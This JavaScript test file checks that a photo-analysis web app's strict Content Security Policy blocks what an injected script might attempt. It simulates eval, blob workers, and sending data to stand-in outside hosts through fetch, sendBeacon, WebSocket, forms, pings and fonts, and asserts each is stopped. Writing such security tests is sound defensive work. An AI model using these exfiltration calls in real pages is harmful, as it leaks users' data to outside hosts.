// The page under its own policy: a whole session without a report, and what the policy stops.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { browse } from '../web/browser.js';
import { TOP } from '../web/server.js';
import { Host, TOOL, dist, espresso, freePort, kept, open, start, temporary } from './site.js';

/** @type {import('playwright-core').Browser} */
let browser;
/** @type {{ path: string, remove: () => Promise<void> }} */
let place;
/** @type {string} */
let site;
before(async () => {
  place = await temporary();
  site = await dist(join(place.path, 'site'), ['--closed']);
  browser = await browse();
});
after(async () => {
  await browser?.close();
  await place?.remove();
});

test('the policy allows what is needed and nothing that it need not', async () => {
  const html = await readFile(join(TOP, 'index.html'), 'utf8');
  const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
  const rules = Object.fromEntries(
    policy.split(';').map((rule) => {
      const [name = '', ...values] = rule.trim().split(/\s+/);
      return [name, values];
    }),
  );
  assert.deepEqual(rules['default-src'], ["'none'"]);
  assert.deepEqual(rules['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
  assert.deepEqual(rules['style-src'], ["'self'"]);
  assert.deepEqual(rules['base-uri'], ["'none'"]);
  assert.deepEqual(rules['require-trusted-types-for'], ["'script'"]);
  assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|\*|http:/);
  assert.ok(
    html.indexOf('Content-Security-Policy') < html.indexOf('<link'),
    'the policy stands before all that it is about',
  );
  assert.doesNotMatch(html, /<style|<script(?![^>]*src=)| on[a-z]+=| style=/, 'nothing inline');
});

test(
  'a session on a closed site, by `whylens serve`, makes no report, first and second visit',
  { timeout: 120_000 },
  async () => {
    const port = await freePort();
    const server = await start(TOOL, ['serve', site, '--port', String(port)], `http://127.0.0.1:${port}/`);
    const context = await browser.newContext();
    for (const visit of ['first', 'second']) {
      const { page, complaints } = await open(context, server.url);
      await page.evaluate(() =>
        new ReportingObserver(
          (reports) => reports.forEach((report) => console.error(`reported: ${JSON.stringify(report)}`)),
          { buffered: true },
        ).observe(),
      );
      await espresso(page);
      await page.locator('.class').nth(1).click();
      await page.setInputFiles('#chooser', [
        join(TOP, 'tests/photos/chelsea.png'),
        join(TOP, 'tests/photos/rocket.jpg'),
      ]);
      await page.locator('.tile[data-status="done"]').nth(1).waitFor({ timeout: 60_000 });
      await kept(page);
      assert.deepEqual(complaints, [], `${visit} visit`);
      await page.close();
    }
    await context.close();
    await server.stop();
  },
);

test(
  '`whylens serve` sends what a site was made with on the first visit: a closed worker, or isolation',
  { timeout: 120_000 },
  async () => {
    const apart = await dist(join(place.path, 'apart'), ['--no-isolate']);
    for (const [folder, reached] of /** @type {const} */ ([
      [apart, true],
      [site, false],
    ])) {
      const port = await freePort();
      const server = await start(TOOL, ['serve', folder, '--port', String(port)], `http://127.0.0.1:${port}/`);
      const context = await browser.newContext({ serviceWorkers: 'block' });
      /** @type {string[]} */
      const seen = [];
      await context.route('https://elsewhere.example/**', (route) => {
        seen.push(route.request().url());
        return route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*' }, body: 'heard' });
      });
      const page = await context.newPage();
      await page.goto(server.url);
      await page.waitForSelector('[data-phase="ready"]', { timeout: 60_000 });
      const worker = page.workers().find((each) => each.url().endsWith('/worker.js'));
      assert.ok(worker, 'the model runs in a worker');
      const told = await worker.evaluate(() =>
        fetch('https://elsewhere.example/?photo').then(
          (answer) => answer.text(),
          (error) => error.name,
        ),
      );
      assert.deepEqual([told, seen.length], reached ? ['heard', 1] : ['TypeError', 0], folder);
      assert.equal(await page.evaluate(() => crossOriginIsolated), folder === site);
      await context.close();
      await server.stop();
    }
  },
);

test('what an injected script would do is stopped and reported', { timeout: 60_000 }, async () => {
  const host = await new Host(site).start();
  const elsewhere = await new Host(site).start();
  const context = await browser.newContext();
  const { page } = await open(context, host.url);
  await page.waitForSelector('[data-phase="ready"]', { timeout: 60_000 });
  const seen = await page.evaluate(async (other) => {
    /** @type {string[]} */
    const violated = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
    /** @type {Record<string, unknown>} */
    const done = {};
    // What the test itself evaluates may use `eval`.
    await new Promise((resolve) => setTimeout(resolve));
    const attempt = async (/** @type {string} */ name, /** @type {() => unknown} */ run) => {
      try {
        done[name] = await run();
      } catch {
        done[name] = 'stopped';
      }
    };
    await attempt('eval', () => (0, eval)('1'));
    await attempt('Function', () => new Function('return 1')());
    await attempt('innerHTML', () => (document.body.innerHTML = '<p>'));
    await attempt('worker', () => new Worker('evil.js'));
    await attempt('worker of a blob', () => new Worker(URL.createObjectURL(new Blob(['1']))));
    await attempt('script.src', () => (document.createElement('script').src = `${other}whylens.js`));
    await attempt('fetch elsewhere', () => fetch(`${other}index.html`, { mode: 'no-cors' }));
    navigator.sendBeacon(`${other}?photo`);
    await attempt('our own policy for another script', () =>
      /** @type {any} */ (globalThis).trustedTypes.createPolicy('evil', {}),
    );
    await attempt('frame', async () => {
      const frame = document.createElement('iframe');
      frame.src = other;
      document.body.append(frame);
      await new Promise((resolve) => setTimeout(resolve, 300));
    });
    await attempt(
      'image elsewhere',
      () =>
        new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve('loaded');
          image.onerror = () => resolve('stopped');
          image.src = `${other}www/samples/coffee.jpg`;
        }),
    );
    // What hosts, requests and reads by itself: each is held, or gives nothing.
    const add = (/** @type {string} */ tag, /** @type {Record<string, string>} */ attributes) =>
      void document.head.append(Object.assign(document.createElement(tag), attributes));
    for (const rel of ['prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest', 'stylesheet'])
      await attempt(rel, () => (add('link', { rel, as: 'image', href: `${other}${rel}` }), 'stopped'));
    for (const [tag, name] of /** @type {const} */ ([
      ['video', 'src'],
      ['audio', 'src'],
      ['embed', 'src'],
      ['object', 'data'],
    ]))
      await attempt(tag, () => (add(tag, { [name]: `${other}${tag}` }), 'stopped'));
    await attempt('ping', () => {
      const link = Object.assign(document.createElement('a'), { href: '#', ping: `${other}ping` });
      document.body.append(link);
      link.click();
      return 'stopped';
    });
    await attempt('form', () => {
      const form = Object.assign(document.createElement('form'), {
        action: `${other}form`,
        method: 'post',
        target: '_blank',
      });
      document.body.append(form);
      form.submit();
      return 'stopped';
    });
    await attempt('style sheet that loads', () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${other}background) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      return 'stopped';
    });
    await attempt('font', () => new FontFace('evil', `url(${other}font)`).load());
    await attempt(
      'WebSocket',
      () => new Promise((resolve) => (new WebSocket(other.replace('http', 'ws')).onerror = () => resolve('stopped'))),
    );
    await attempt(
      'EventSource',
      () => new Promise((resolve) => (new EventSource(`${other}events`).onerror = () => resolve('stopped'))),
    );
    await attempt('fetch later', () => {
      const { fetchLater } = /** @type {any} */ (globalThis);
      fetchLater?.(`${other}later`, { activateAfter: 0 });
      return 'stopped';
    });
    await attempt('fetch of an empty frame', () => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return /** @type {any} */ (frame.contentWindow).fetch(`${other}frame`, { mode: 'no-cors' });
    });
    await attempt('inline style', () => {
      document.body.setAttribute('style', 'display: none');
      return getComputedStyle(document.body).display === 'none' ? 'hidden' : 'stopped';
    });
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { done, violated: [...new Set(violated)].sort() };
  }, elsewhere.url);
  const { frame, ...others } = seen.done;
  assert.equal(frame, undefined);
  assert.deepEqual([...new Set(Object.values(others))], ['stopped'], JSON.stringify(seen.done));
  for (const directive of [
    'connect-src',
    'frame-src',
    'img-src',
    'require-trusted-types-for',
    'style-src-attr',
    'trusted-types',
  ]) {
    assert.ok(seen.violated.includes(directive), `${directive} among ${seen.violated}`);
  }
  assert.deepEqual(elsewhere.seen, [], 'nothing reached the other site');
  await context.close();
  await host.stop();
  await elsewhere.stop();
});

test('the footer leads to the licences of everything inside', { timeout: 60_000 }, async () => {
  const host = await new Host(site, { prefix: '/some/where/' }).start();
  const context = await browser.newContext();
  const { page } = await open(context, host.url);
  await page.locator('#footer a').click();
  await page.waitForURL(/www\.[0-9a-f]{16}\/licenses\.txt$/);
  assert.match(await page.locator('body').innerText(), /tract-onnx 0\.23/);
  await context.close();
  await host.stop();
});
